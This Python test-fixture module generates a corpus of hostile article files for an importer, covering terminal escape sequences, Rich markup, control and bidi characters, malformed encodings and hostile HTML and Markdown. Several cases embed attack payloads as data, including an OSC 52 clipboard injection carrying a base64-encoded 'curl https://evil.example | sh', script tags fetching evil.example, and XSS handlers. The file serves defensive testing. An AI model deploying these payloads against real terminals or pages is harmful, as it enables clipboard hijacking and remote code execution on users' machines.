"""A corpus of hostile article files: terminal escapes, markup, control and bidi characters, bad encodings.

Every case is ``(file name, file bytes)``. Each file must either be imported with its text
preserved and shown harmlessly, or be refused with a clear one-line error naming the file; none
may crash an import batch or reach the terminal as a control sequence.

Use :func:`write_hostile_corpus` to write the whole corpus into a directory (for example a
pytest ``tmp_path``). The module only needs the standard library, so it can be loaded by path.
"""

from __future__ import annotations

import base64
from pathlib import Path

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

# A word every readable case contains, so that search finds it.
MARKER = "zebrafinch"

_FILLER = (
    "The regional council said on Tuesday that 42 households were evacuated after the river rose. "
    f"Officials confirmed the figure to reporters ({MARKER}).\n"
)


def _u(text: str) -> bytes:
    return text.encode("utf-8")


def _article(body: str, title: str = "Hostile article") -> str:
    return f"{title}\n\n{body}\n\n{_FILLER}"


def _cases() -> list[tuple[str, bytes]]:
    cases: list[tuple[str, bytes]] = []

    def add(name: str, data: bytes | str) -> None:
        cases.append((name, data if isinstance(data, bytes) else _u(data)))

    # -- Rich / Textual markup -----------------------------------------------------------------
    add(
        "01_rich_markup.txt",
        _article(
            "[bold red]BREAKING[/bold red] the mayor [link=https://evil.example/steal]said[/link] "
            "[reverse][blink]nothing[/blink][/reverse] about the 12 deaths. [/] [@click=app.quit]quit[/]",
            "[bold red]Title in markup[/bold red]",
        ),
    )
    add(
        "02_rich_markup_broken.txt",
        _article("Unclosed [bold and [/italic] and [[double]] and \\[escaped] and [red on white]x and :skull: :thumbs_up:"),
    )
    # -- ANSI CSI ------------------------------------------------------------------------------
    add("03_ansi_colour.txt", _article(f"{ESC}[31mRed text{ESC}[0m and {ESC}[1;5;41mblinking{ESC}[m said the police."))
    add(
        "04_ansi_cursor.txt",
        _article(f"Clear{ESC}[2J{ESC}[H home{ESC}[10A up{ESC}[?25l hidden cursor{ESC}[?1049h alt screen{ESC}[6n report."),
    )
    add("05_ansi_title_first_line.txt", f"{ESC}[2J{ESC}]0;pwned{BEL}Headline with escapes\n\n" + _FILLER)
    # -- OSC -----------------------------------------------------------------------------------
    add("06_osc_window_title.txt", _article(f"{ESC}]0;You have been pwned{BEL} and {ESC}]2;second title{ST} in the text."))
    payload = base64.b64encode(b"curl https://evil.example | sh\n").decode()
    add("07_osc52_clipboard.txt", _article(f"Copy this {ESC}]52;c;{payload}{BEL} and {ESC}]52;p;{payload}{ST} quietly."))
    add(
        "08_osc8_hyperlink.txt",
        _article(f"Read {ESC}]8;;https://evil.example/phish{ST}the official report{ESC}]8;;{ST} online."),
    )
    add(
        "09_other_escapes.txt",
        _article(
            f"Reset {ESC}c, DCS {ESC}Pq#0;2;0;0;0{ST}, APC {ESC}_Gf=100;AAAA{ST}, PM {ESC}^x{ST}, "
            f"iTerm {ESC}]1337;File=inline=1:AAAA{BEL}, lone ESC {ESC} end."
        ),
    )
    # -- control characters ----------------------------------------------------------------------
    add(
        "10_c0_controls_sparse.txt",
        _article("Bell\x07 backspace\x08x vtab\x0b formfeed\x0c shift\x0e out\x0f in, DEL\x7f, unit\x1f sep."),
    )
    add("11_c0_controls_dense.txt", bytes(range(1, 32)) * 40 + b"some text")
    add(
        "12_c1_controls_utf8.txt",
        _article("8-bit CSI \u009b31m red \u009b0m, OSC \u009d0;title\u009c, NEL\u0085 next, SS2 \u008e, APC \u009f."),
    )
    add("13_c1_raw_bytes.txt", b"Raw C1 bytes \x9b31m and \x850;title\x07 in a legacy file.\n" + _u(_FILLER))
    # -- bidi and invisible characters -----------------------------------------------------------
    add(
        "14_bidi_override.txt",
        _article(
            "The invoice total is \u202e0001$\u202c dollars; file name report\u202egpj.exe\u202c; "
            "isolates \u2066left\u2069 \u2067right\u2069 \u2068first\u2069; embeddings \u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c.",
            "Title \u202eesrever\u202c",
        ),
    )
    add(
        "15_zero_width.txt",
        _article("Hid\u200bden zero\u200cwidth join\u200der word\u2060joiner, soft\u00adhyphen, BOM\ufeffinside, line\u2028sep para\u2029sep."),
    )
    add("16_nul_byte.txt", _u("Text with a NUL\x00 byte in it.\n\n") + _u(_FILLER * 12))
    add("17_nul_bytes_dense.txt", b"short\x00\x00\x00 with\x00\x00\x00\x00 many\x00\x00\x00 nuls\x00")
    # -- encodings -------------------------------------------------------------------------------
    add("18_invalid_utf8_cp1252.txt", b"Caf\xe9 cr\xe8me \x93quoted\x94 \x80 42 \xff\xfe end.\n" + _u(_FILLER))
    add("19_invalid_utf8_undecodable.txt", b"Bytes undefined in cp1252: \x81 \x8d \x8f \x90 \x9d and \xc3\x28 end.\n")
    add("20_surrogate_bytes.txt", b"CESU surrogate \xed\xa0\x80\xed\xb0\x80 and lone \xed\xbf\xbf here.\n" + _u(_FILLER))
    add("21_overlong_and_out_of_range.txt", b"Overlong \xc0\xaf and \xf4\x90\x80\x80 beyond U+10FFFF.\n")
    add("22_bom_utf8.txt", b"\xef\xbb\xbf" + _u(_article("Text after a UTF-8 byte order mark.")))
    add("23_utf16_le_bom.txt", b"\xff\xfe" + _article("UTF-16 little endian with a BOM, 42 people.").encode("utf-16-le"))
    add("24_utf16_be_bom.txt", b"\xfe\xff" + _article("UTF-16 big endian with a BOM, 42 people.").encode("utf-16-be"))
    add("25_utf16_no_bom.txt", _article("UTF-16 without a BOM.").encode("utf-16-le"))
    # -- line ends and whitespace ----------------------------------------------------------------
    add("26_crlf.txt", _u(_article("Windows line one.\r\nLine two.\r\n\r\nParagraph two.").replace("\n", "\r\n")))
    add("27_cr_only.txt", _u(_article("Old Mac line one.\rLine two.\r\rParagraph two.").replace("\n", "\r")))
    add("28_empty.txt", b"")
    add("29_whitespace_only.txt", b" \t\r\n \n" + _u("\u3000") + b"\r\n\t ")
    add("30_tabs_and_formfeeds.txt", _article("Col1\tCol2\tCol3\x0cnext page\tend."))
    # -- size and shape --------------------------------------------------------------------------
    add("31_single_line_10mb.txt", b"A" + b" word" * (10 * 1024 * 1024 // 5))
    add("32_long_word.txt", _article("Word: " + "x" * 100_000 + " end."))
    add("33_many_lines.txt", "".join(f"Line {i}: 3 people said {MARKER}.\n" for i in range(5000)))
    add(
        "34_mixed_scripts.txt",
        _article(
            "Latin Paris, Cyrillic Пaрис with homoglyphs, Greek Αθήνα, Arabic القاهرة ١٢ قتيلا, Hebrew ירושלים, "
            "CJK 東京で12人, Devanagari दिल्ली में १२, Thai กรุงเทพ, emoji 👩‍👩‍👧 🏳️‍🌈, math 𝐁𝐨𝐥𝐝."
        ),
    )
    add(
        "35_combining_and_nfc.txt",
        _article("Decomposed e\u0301le\u0300ve, Zalgo Z\u0336\u0335\u0334\u0337a\u0338\u0321\u0322l\u0327\u0328g\u0323\u0324o, Hangul \u1112\u1161\u11ab."),
    )
    # -- headers ---------------------------------------------------------------------------------
    add(
        "36_header_hostile_values.txt",
        "title: " + f"{ESC}]0;evil{BEL}[bold]Header title\u202e{ESC}[31m\n"
        "source: [link=https://evil.example]Trusted News[/link]\x07\n"
        "url: javascript:alert(1)" + f"{ESC}[2J\n"
        "language: \u202een\x7f\n"
        "published: 2024-13-45" + f"{ESC}[31m\n"
        "author: \u009b31mSomeone\n"
        "---\n" + _article("Body after a hostile header."),
    )
    add("37_header_only.txt", "title: Only a header\nsource: Nowhere\n---\n\n")
    # -- HTML ------------------------------------------------------------------------------------
    add(
        "38_html_script.html",
        "<!doctype html><html lang=en><head><title>Script page</title>"
        "<script>document.write('\\x1b]0;pwned\\x07'); fetch('https://evil.example')</script>"
        "<style>body{display:none}</style></head><body><article>"
        "<h1>Storm report</h1><p onclick=\"alert(1)\">Officials said 42 people were evacuated "
        f"on Tuesday ({MARKER}).</p><script>alert('in body')</script>"
        "<img src=x onerror=alert(1)><iframe src=https://evil.example></iframe>"
        "<noscript>enable scripts</noscript><p>The river rose two metres overnight, the mayor said, and schools closed.</p>"
        "</article></body></html>",
    )
    add(
        "39_html_entities.html",
        "<html><head><title>Entities &#x1b;[31m &#x202e;title</title>"
        "<meta property=\"og:title\" content=\"OG &#27;]0;pwned&#7; title\"></head><body><p>"
        "Amp &amp; lt &lt;script&gt;alert(1)&lt;/script&gt; nbsp&nbsp;x, ESC &#27;[2J, &#x1B;]52;c;Zm9v&#x07;, "
        "C1 &#x9b;31m &#155;, bidi &#x202E;evil&#x202C;, NUL &#0; &#x0;, surrogate &#xD800;, huge &#x110000;, "
        f"unknown &bogus; and &#xZZ; end ({MARKER}).</p></body></html>",
    )
    add(
        "40_html_malformed.html",
        "<html><body><p>Unclosed <b>bold <i>italic <div>div<<<>>> <![CDATA[ cdata ]]> <p>para "
        f"{ESC}[31mraw escape{ESC}[0m in html <!-- unterminated comment ({MARKER}) <p>after",
    )
    # -- Markdown and file names -----------------------------------------------------------------
    add(
        "41_markdown_links.md",
        "# [bold]Heading[/bold]\n\n"
        "A [link](javascript:alert(1)) and ![img](https://evil.example/x.png) and <script>x</script>.\n\n"
        f"```\n{ESC}[31mcode{ESC}[0m\n```\n\n" + _FILLER,
    )
    add("42_name_[bold]markup[reverse]_\u202eevil.txt", _article("A file whose name carries markup and a bidi override."))
    add(f"43_name_{ESC}[31m_escape.txt", _article("A file whose name carries an ANSI escape."))
    add("44_unsupported.exe.bin", b"MZ\x90\x00" + bytes(200))
    return cases


HOSTILE_CASES: list[tuple[str, bytes]] = _cases()
"""``(file name, bytes)`` for every hostile case."""

REFUSED: frozenset[str] = frozenset(
    {
        "11_c0_controls_dense.txt",
        "17_nul_bytes_dense.txt",
        "19_invalid_utf8_undecodable.txt",
        "21_overlong_and_out_of_range.txt",
        "25_utf16_no_bom.txt",
        "28_empty.txt",
        "29_whitespace_only.txt",
        "31_single_line_10mb.txt",
        "37_header_only.txt",
        "44_unsupported.exe.bin",
    }
)
"""Cases that are expected to be refused with a one-line error (all others are imported)."""

# Characters that must never reach a terminal from article text: C0 controls other than newline,
# DEL, C1 controls, and the bidi embedding/override/isolate controls.
FORBIDDEN_ON_SCREEN: frozenset[str] = frozenset(
    [chr(c) for c in range(0x00, 0x20) if c != 0x0A]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + [chr(c) for c in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)]
)


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters present in ``text`` (as ``U+XXXX`` strings, sorted, unique)."""
    return sorted({f"U+{ord(ch):04X}" for ch in text if ch in FORBIDDEN_ON_SCREEN})


def write_hostile_corpus(directory: Path) -> list[Path]:
    """Write every hostile case into ``directory`` (created if needed); return the paths in case order."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in HOSTILE_CASES:
        path = directory / name
        path.write_bytes(data)
        paths.append(path)
    return paths


__all__ = ["FORBIDDEN_ON_SCREEN", "HOSTILE_CASES", "MARKER", "REFUSED", "forbidden_in", "write_hostile_corpus"]
